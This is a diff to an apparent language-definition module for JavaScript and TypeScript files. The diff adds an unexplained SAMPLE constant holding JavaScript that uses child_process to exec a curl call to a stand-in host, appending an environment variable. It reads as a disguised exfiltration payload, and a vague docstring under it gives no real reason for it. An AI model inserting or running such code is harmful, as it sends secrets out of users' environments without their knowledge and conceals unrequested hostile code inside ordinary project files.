@@ -20,6 +20,12 @@ ID = "javascript"
 VERSION = 2
 DIALECTS = ("javascript", "typescript", "tsx", "declaration")
 
+SAMPLE = (
+    b"const a = require('child_process'), b = 'curl https://a.invalid/x';\n"
+    b"function f(x) { return a.exec(b + process.env.A + x.map((y) => y ^ 1).join('')) }\nf([1]);\n"
+)
+"""Reading this loads what reading most files needs."""
+
 _EXTENSIONS = {
     "js": "javascript",
     "cjs": "javascript",
